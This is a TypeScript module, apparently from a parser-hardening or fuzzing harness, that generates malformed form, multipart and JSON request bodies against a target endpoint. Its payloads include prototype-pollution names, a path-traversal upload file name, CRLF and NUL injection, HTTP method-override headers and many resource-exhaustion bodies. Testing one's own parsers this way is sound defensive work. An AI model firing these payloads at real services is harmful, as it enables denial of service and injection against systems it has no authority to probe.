import { MARK, SECRETS } from "./values.ts";
import type { Attack } from "./wire.ts";

/** The address, the sender and the valid fields of a body. */
export interface Target {
  path: string;
  headers: Record<string, string>;
  /** Valid fields, including the form's token. */
  fields: Record<string, string>;
}

export const FORM = "application/x-www-form-urlencoded";
const times = (count: number, text: string | ((at: number) => string)) =>
  Array.from({ length: count }, (_, index) => (typeof text === "string" ? text : text(index))).join("");

const FORM_BODIES: Record<string, string | Buffer> = {
  "a sparse index": "a[50000000]=1",
  "an index near 2^32": "a[4294967290]=1",
  "an index beyond 2^53": "a[99999999999999999999]=1",
  "a negative index": "a[-1]=1",
  "an index of an index": "a[0][0]=1",
  "empty indexes": "a[][][]=1&a[]=2",
  "an index and a name": "a[0]=1&a.b=2&a=3",
  "many sparse indexes": times(300, (at) => `a${at}[900]=1&`),
  "sparse indexes in each other": "a[999].b[999].c[999].d=1",
  "a deep name": `${times(5000, "a.")}a=1`,
  "deep brackets": `a${times(5000, "[0]")}=1`,
  "many deep names": times(400, (at) => `${times(20, `b${at}.`)}c=1&`),
  __proto__: `__proto__.${MARK}=1&__proto__[${MARK}]=1&constructor.prototype.${MARK}=1&__proto__=1`,
  "names of every object": "toString=1&valueOf=2&hasOwnProperty=3&then=4&length=5&constructor=6",
  "a control field that is no JSON": "__intent__=xx&__state__=xx",
  "a control field of an unknown kind": `__intent__=${encodeURIComponent('{"type":"hk7","payload":{}}')}`,
  "a control field that inserts far away": `__intent__=${encodeURIComponent('{"type":"insert","payload":{"name":"a","index":50000000}}')}`,
  "a control field that reorders far away": `__intent__=${encodeURIComponent('{"type":"reorder","payload":{"name":"a","from":0,"to":4294967290}}')}`,
  "a control field without its payload": `__intent__=${encodeURIComponent('{"type":"update"}')}`,
  "a control field with a polluting name": `__intent__=${encodeURIComponent('{"type":"update","payload":{"name":"__proto__.hk7","value":1}}')}`,
  "a state that is null": "__state__=null",
  "60 000 repeated fields": times(60_000, "a&"),
  "40 000 repeated values": times(40_000, "a=1&"),
  "30 000 fields": times(30_000, (at) => `f${at}=1&`),
  "50 000 separators": times(50_000, "&"),
  "50 000 equals signs": times(50_000, "="),
  "a broken escape": "a=%&b=%zz&c=%e0%a4&%=1",
  "100 000 escapes": `a=${times(100_000, "%00")}`,
  "bytes that are no text": Buffer.from([0x61, 0x3d, 0xff, 0xfe, 0x00, 0xc3, 0x28, 0xed, 0xa0, 0x80]),
  "one field of 900 kB": `a=${times(900_000, "x")}`,
  "a name of 900 kB": `${times(900_000, "x")}=1`,
  "a name that is empty": "=1&=2&&=3",
  nothing: "",
};

/** Form bodies that exhaust or crash a careless parser. */
export function formBodies(target: Target): Attack[] {
  const honest = new URLSearchParams(target.fields).toString();
  return Object.entries(FORM_BODIES).map(([name, body]) => {
    const sent = typeof body === "string" && body !== "" ? `${honest}&${body}` : body;
    return {
      name: `form: ${name}`,
      method: "POST",
      path: target.path,
      headers: { ...target.headers, "Content-Type": FORM },
      body: sent,
      mayDrop: sent.length > 64 * 1024,
    };
  });
}

const BOUNDARY = "----hk7boundary";
const part = (head: string, content = "x") => `--${BOUNDARY}\r\n${head}\r\n\r\n${content}\r\n`;
const field = (name: string, content = "x") =>
  part(`Content-Disposition: form-data; name="${name}"`, content);
const END = `--${BOUNDARY}--\r\n`;

export function multipartBodies(target: Target): Attack[] {
  const honest = Object.entries(target.fields)
    .map(([name, value]) => field(name, value))
    .join("");
  const file = (name: string, type = "text/plain", content = "9780140328721") =>
    part(`Content-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}`, content);
  const bodies: Record<string, string> = {
    "no end": honest + field("a"),
    "no parts": END,
    "only a boundary": `--${BOUNDARY}`,
    "another boundary": `--other\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--other--\r\n`,
    "a part without a name": `${honest}${part("Content-Disposition: form-data")}${END}`,
    "a part without headers": `${honest}--${BOUNDARY}\r\n\r\nx\r\n${END}`,
    "headers without an end": `${honest}--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"`,
    "headers of 100 kB": `${honest}${part(`Content-Disposition: form-data; name="a"\r\nX-Long: ${times(100_000, "x")}`)}${END}`,
    "5 000 headers": `${honest}${part(`Content-Disposition: form-data; name="a"\r\n${times(5000, (at) => `X-${at}: 1\r\n`).trimEnd()}`)}${END}`,
    "10 000 parts": honest + times(10_000, field("a")) + END,
    "5 000 files": honest + times(5000, file("a.txt")) + END,
    "a sparse index": honest + field("a[50000000]") + END,
    "a deep name": honest + field(times(3000, "a.")) + END,
    __proto__: honest + field(`__proto__.${MARK}`) + END,
    "a name with CRLF": honest + field("a%0d%0aX-hk7: 1") + field('a"; filename="b') + END,
    "a file for every field":
      Object.keys(target.fields)
        .map((name) =>
          part(
            `Content-Disposition: form-data; name="${name}"; filename="x.txt"\r\nContent-Type: text/plain`,
          ),
        )
        .join("") + END,
    "a file name that climbs": `${honest}${file("../../../../tmp/hk7.txt")}${END}`,
    "a file name of 50 kB": `${honest}${file(`${times(50_000, "x")}.txt`)}${END}`,
    "a file name with NUL": `${honest}${file("a.txt\0.pdf")}${END}`,
    "a file that lies about its kind": `${honest}${file("a.pdf", "application/pdf", "no pdf at all")}${END}`,
    "a workbook that is none": `${honest}${file("a.xlsx", "application/zip", `PK\x03\x04${times(2000, "\xff")}`)}${END}`,
    "a page that is deep": `${honest}${file("a.html", "text/html", times(100_000, "<p>"))}${END}`,
    "a text of 400 000 numbers": `${honest}${file("a.txt", "text/plain", times(400_000, "9"))}${END}`,
    "an empty file": `${honest}${file("a.txt", "text/plain", "")}${END}`,
    "multipart in multipart": `${honest}${part('Content-Disposition: form-data; name="a"\r\nContent-Type: multipart/mixed; boundary=b', times(2000, "--b\r\n\r\nx\r\n"))}${END}`,
    "a boundary's beginning 50 000 times": `${honest}${field("a", times(50_000, `\r\n--${BOUNDARY.slice(0, 9)}`))}${END}`,
  };
  const typed = (name: string, type: string, body: string): Attack => ({
    name: `multipart: ${name}`,
    method: "POST",
    path: target.path,
    headers: { ...target.headers, "Content-Type": type },
    body,
    mayDrop: body.length > 64 * 1024,
  });
  const ordinary = `multipart/form-data; boundary=${BOUNDARY}`;
  return [
    ...Object.entries(bodies).map(([name, body]) => typed(name, ordinary, body)),
    typed("no boundary", "multipart/form-data", honest + END),
    typed("an empty boundary", 'multipart/form-data; boundary=""', honest + END),
    typed(
      "a boundary of 5 kB",
      `multipart/form-data; boundary=${times(5000, "b")}`,
      `--${times(5000, "b")}\r\n`,
    ),
    typed("a boundary with signs", 'multipart/form-data; boundary="()+_,-./:=?"', honest + END),
    typed("two boundaries", `${ordinary}; boundary=other`, honest + END),
    typed("another multipart", `multipart/mixed; boundary=${BOUNDARY}`, honest + END),
  ];
}

/** Bodies that claim to be JSON. */
export function jsonBodies(target: Target): Attack[] {
  const fields = JSON.stringify(target.fields);
  const inside = fields.slice(0, -1);
  const bodies: Record<string, string | Buffer> = {
    "5 000 arrays in each other": `${inside},"a":${times(5000, "[")}${times(5000, "]")}}`,
    "100 000 arrays in each other": `${inside},"a":${times(100_000, "[")}${times(100_000, "]")}}`,
    "5 000 objects in each other": `${inside},"a":${times(5000, '{"a":')}1${times(5000, "}")}}`,
    "100 000 keys": `${inside},"b":{${times(100_000, (at) => `"k${at}":1,`).slice(0, -1)}}}`,
    "100 000 keys at the top": `${inside}${times(100_000, (at) => `,"k${at}":1`)}}`,
    "200 000 numbers": `${inside},"a":[${times(200_000, "1,")}1]}`,
    __proto__: `${inside},"__proto__":{"${MARK}":1},"constructor":{"prototype":{"${MARK}":1}}}`,
    "a key twice": `${inside},"a":1,"a":[2],"csrf":"no"}`,
    "a number of 100 000 digits": `${inside},"quantity":${times(100_000, "9")}}`,
    "a number beyond all": `${inside},"quantity":1e999,"limit":-1e999}`,
    "half a surrogate": `${inside},"a":"\\ud800","\\udfff":1}`,
    "an array": `[${fields}]`,
    "null itself": "null",
    "a text": '"text"',
    "no JSON": "{'a':1}",
    "half of it": inside,
    "more after it": `${fields}${fields}`,
    "a byte order mark": Buffer.from(`\ufeff${fields}`, "utf16le"),
    nothing: "",
    "bytes that are no text": Buffer.from([0x22, 0xff, 0xfe, 0xed, 0xa0, 0x80, 0x22]),
    "600 kB of blanks": `${times(600_000, " ")}${fields}`,
  };
  return Object.entries(bodies).map(([name, body]) => ({
    name: `JSON: ${name}`,
    method: "POST",
    path: target.path,
    headers: { ...target.headers, "Content-Type": "application/json" },
    body,
    mayDrop: body.length > 64 * 1024,
  }));
}

/** Requests whose headers do not match their body. */
export function lyingBodies(target: Target): Attack[] {
  const honest = new URLSearchParams({ ...target.fields, number: SECRETS.card }).toString();
  const types = [
    "",
    "text/plain",
    "application/xml",
    "application/json",
    `${FORM}; charset=utf-16`,
    `${FORM}; charset=${times(2000, "x")}`,
    "multipart/form-data; boundary=x",
    "application/json; charset=shift_jis",
    times(6000, "a/b, "),
    "/;;;==",
  ];
  const to = (name: string, headers: Record<string, string>, body: string | Buffer = honest): Attack => ({
    name: `lie: ${name}`,
    method: "POST",
    path: target.path,
    headers: { ...target.headers, ...headers },
    body,
    mayDrop: true,
  });
  return [
    ...types.map((type) => to(`the body is ${type.slice(0, 40)}`, { "Content-Type": type })),
    ...["gzip", "br", "deflate", "identity, gzip", "hk7"].map((coding) =>
      to(`packed as ${coding}`, { "Content-Type": FORM, "Content-Encoding": coding }),
    ),
    to("no length, in pieces", { "Content-Type": FORM, "Transfer-Encoding": "chunked" }),
    ...["PUT", "DELETE", "GET"].map((method) =>
      to(`another method, ${method}`, {
        "Content-Type": FORM,
        "X-HTTP-Method-Override": method,
        "X-Method-Override": method,
      }),
    ),
    to("a method in a field", { "Content-Type": FORM }, `${honest}&_method=DELETE`),
  ];
}
